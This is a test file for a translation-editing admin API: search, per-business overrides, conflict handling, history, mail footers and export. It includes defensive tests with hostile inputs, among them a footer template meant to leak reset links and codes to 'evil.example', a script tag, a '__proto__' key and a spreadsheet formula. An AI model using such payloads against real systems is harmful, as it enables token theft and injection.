import { beforeEach, expect, it } from "vitest";
import type { WordsFound } from "#shared/contracts/words.ts";
import { auditLog, translations } from "#api/db/schema/identity.ts";
import { call, signedIn } from "#tests/fixtures/api-client.ts";
import { asking } from "#tests/fixtures/asking.ts";
import { exportedList } from "#tests/fixtures/exported-list.ts";
import { emptyMailbox, takeMail } from "#tests/fixtures/mailbox.ts";
import { resetManaged } from "#tests/fixtures/reset.ts";
import type { SeededBusiness } from "#tests/fixtures/two-businesses.ts";

let a: SeededBusiness;
let b: SeededBusiness;
let token: string;
const path = "/manage/admin/words";

beforeEach(async () => {
  ({ a, b, token } = await resetManaged());
});

const asked = asking(() => ({ host: a.host, token }));
const read = async (query = "") => (await asked<WordsFound>(`${path}${query}`)).data;
interface Change {
  key: string;
  locale?: string;
  text: string | null;
}
const write = async (changes: Change[], tag?: string) =>
  asked<WordsFound>(path, {
    method: "PUT",
    body: { changes: changes.map((change) => ({ locale: "vi", ...change })) },
    tag: tag ?? (await read()).revision,
  });
const overlay = async (business: SeededBusiness, locale = "vi") =>
  (await call(business.host, `/translations/${locale}`)).json();

it("are found by key and by text without marks, and gone through page by page", async () => {
  expect((await read("?q=trang%20chu&limit=100")).words.map(({ key }) => key)).toContain("home:title");
  expect((await read("?q=home%3Atitle")).words.map(({ key }) => key)).toContain("home:title");
  expect((await read("?q=zzzzzzzz")).words).toEqual([]);
  const keys: string[] = [];
  let after: string | null = null;
  let total = 0;
  do {
    const page: WordsFound = await read(
      `?namespace=home&limit=20${after ? `&after=${encodeURIComponent(after)}` : ""}`,
    );
    keys.push(...page.words.map(({ key }) => key));
    ({ next: after, total } = page);
  } while (after);
  expect(keys).toHaveLength(total);
  expect(new Set(keys).size).toBe(total);
  const all = await read();
  expect(all.namespaces.map(({ name }) => name)).not.toContain("errors");
  // It begins with what everybody reads, and parts are called as people call them.
  expect(all.words[0]?.key).toMatch(/^common:frame\.nav\./);
  expect(all.namespaces).toContainEqual({ name: "auth", title: "Log-in page" });
  expect(all.namespaces).toContainEqual({ name: "people", title: "Accounts" });
  expect(all.namespaces.filter(({ name, title }) => name === title)).toEqual([]);
  expect((await read("?q=mail%3Aletters")).words).toEqual([]);
});

it("written over are the business's own, in that language, at once and of no other business", async () => {
  expect((await write([{ key: "home:title", text: "Nhà mình" }])).status).toBe(200);
  expect(await overlay(a)).toEqual({ home: { title: "Nhà mình" } });
  expect(await overlay(a, "en")).toEqual({});
  expect(await overlay(b)).toEqual({});
  const found = await read("?own=1");
  expect(found.words).toHaveLength(1);
  expect(found.words[0]!.texts[0]).toMatchObject({ locale: "vi", shipped: "Trang chủ", own: "Nhà mình" });
  expect((await read("?q=nha%20minh")).words.map(({ key }) => key)).toEqual(["home:title"]);
  await write([{ key: "home:title", text: null }]);
  expect(await a.db.from(translations).all()).toEqual([]);
});

it.each(["Trang \u202echủ", "Z\u0335\u0321\u0322\u0335\u0321\u0322 chủ"])(
  "that turn a text around, or bear a pile of marks, are refused at their place: %j",
  async (text) => {
    const answer = await write([
      { key: "home:title", text: "Nhà mình" },
      { key: "home:title", locale: "en", text },
    ]);
    expect(answer).toMatchObject({ status: 422, data: { code: "validation_failed" } });
    expect(Object.keys(answer.data.errors!)).toEqual(["changes.1.text"]);
    expect(await overlay(a)).toEqual({});
  },
);

it("that somebody else published meanwhile come with the refusal, those alone that were to be changed", async () => {
  const { revision } = await read();
  await write([
    { key: "home:title", text: "Của họ" },
    { key: "home:title", locale: "en", text: "Theirs" },
  ]);
  const late = await write(
    [
      { key: "home:title", text: "Của tôi" },
      { key: "account:title", text: "Tôi đây" },
    ],
    revision,
  );
  const { revision: now, own, history } = await read();
  expect(late).toMatchObject({
    status: 412,
    data: {
      code: "stale",
      current: {
        own,
        revision: now,
        history,
        texts: [
          { key: "home:title", locale: "vi", shipped: "Trang chủ", own: "Của họ" },
          { key: "account:title", locale: "vi", own: null },
        ],
      },
    },
  });
  expect(await overlay(a)).toEqual({ home: { title: "Của họ" } });
});

it("stand around letters, too", async () => {
  await emptyMailbox(a);
  await write([{ key: "mail:footer", text: "Thư của {{business}}, không cần trả lời." }]);
  await asked("/manage/admin/letters/test", {
    body: {
      letter: "otp",
      locale: "vi",
      text: { subject: "x", heading: "x", body: "{{code}}", button: null },
    },
  });
  expect((await takeMail(a)).text).toMatch(/^Thư của .+, không cần trả lời\.$/m);
});

it("around letters know neither their links nor their codes, whoever wrote them", async () => {
  await emptyMailbox(a);
  const evil = "{{business}} https://evil.example/?t={{link}}&c={{code}}&{{ link }}";
  for (const key of ["mail:footer", "mail:fallback"])
    expect(await write([{ key, text: evil }])).toMatchObject({
      status: 422,
      data: { errors: { "changes.0.text": expect.any(Array) } },
    });
  // Operators write what they like.
  await a.db
    .insert(translations, { locale: "vi", messages: { mail: { footer: evil, fallback: evil } }, updatedAt: 1 })
    .run();
  await call(a.host, "/auth/forgot-password", {
    body: { email: "learner@example.test" },
    headers: { "Accept-Language": "vi" },
  });
  const { text, html } = await takeMail(a);
  const [token] = /(?<=\/auth\/password\/reset\/)[\w-]{43}/.exec(text) ?? [];
  expect(token).toBeDefined();
  for (const written of [text, html])
    for (const line of written.split(/\n|<br>/).filter((one) => one.includes("evil.example")))
      expect(line).not.toContain(token);
  expect(text).toContain("https://evil.example/?t={{link}}&c={{code}}&{{ link }}");
});

it.each([
  ["a placeholder dropped", "common:frame.account.label", "Tài khoản", "text"],
  ["a placeholder made up", "home:title", "{{name}}", "text"],
  ["a tag of one's own", "home:title", "<script>x</script>", "text"],
  ["nothing", "home:title", "  ", "text"],
  ["a word that there is not", "home:nothing", "x", "key"],
  ["a way into what objects are made of", "__proto__:x", "x", "key"],
])("refuses %s at its cell, and writes none of them", async (_, key, text, where) => {
  const answer = await write([
    { key: "home:outline", text: "Xem" },
    { key, text },
  ]);
  expect(answer).toMatchObject({ status: 422, data: { errors: { [`changes.1.${where}`]: expect.any(Array) } } });
  expect(await overlay(a)).toEqual({});
});

it("are kept, brought back and logged; an operator's stay in the history; two at once do not meet", async () => {
  await a.db
    .insert(translations, { locale: "vi", messages: { home: { title: "Của người vận hành" } }, updatedAt: 1 })
    .run();
  const { revision } = await read();
  const both = await Promise.all([
    write([{ key: "home:title", text: "Một" }], revision),
    write([{ key: "home:outline", text: "Hai" }], revision),
  ]);
  expect(both.map(({ status }) => status).toSorted()).toEqual([200, 412]);
  const { history, revision: now } = await read();
  expect(history).toHaveLength(2);
  const back = await asked(`/manage/admin/editions/${history[1]!.id}/restoration`, { method: "POST", tag: now });
  expect(back.status).toBe(200);
  expect(await overlay(a)).toEqual({ home: { title: "Của người vận hành" } });
  // The history says which words each edition wrote; five at once as three, and how many more.
  const shipped = (await read("?namespace=home&limit=100")).words
    .flatMap(({ key, texts }) =>
      texts.flatMap((text) => (text.locale === "vi" && text.shipped ? [{ key, text: `${text.shipped} !` }] : [])),
    )
    .slice(2, 7);
  expect((await write(shipped, (await read()).revision)).status).toBe(200);
  const [newest, restored] = (await read()).history;
  expect(newest?.changes).toHaveLength(3);
  expect(newest?.changes[0]?.field).toMatch(/^Tiếng Việt · home:/);
  expect(newest?.further).toBe(2);
  expect(restored?.changes.length).toBeGreaterThan(0);
  const actions = (await a.db.from(auditLog).all()).map(({ action }) => action);
  expect(actions).toEqual(expect.arrayContaining(["words.changed", "words.restored"]));
});

it("are saved as the business says them in each language, as many as are found, without what another business says", async () => {
  await write([{ key: "home:title", text: "=1+1" }]);
  const file = await exportedList(a.host, token, `${path}/export`, "&own=1");
  expect([file.titles.slice(0, 3), file.rows.length]).toEqual([["Key", "Tiếng Việt", "English"], 1]);
  expect(file.rows[0]?.slice(0, 2)).toEqual(["home:title", "'=1+1"]);
  expect(file.filter).toBe("Filter: Which words: Written anew");
  const all = await exportedList(a.host, token, `${path}/export`, "&namespace=home");
  expect(all.rows).toHaveLength((await read("?namespace=home&limit=100")).total);
  const others = await exportedList(b.host, await signedIn(b, b.manager), `${path}/export`, "&own=1");
  expect(others.rows).toEqual([]);
});
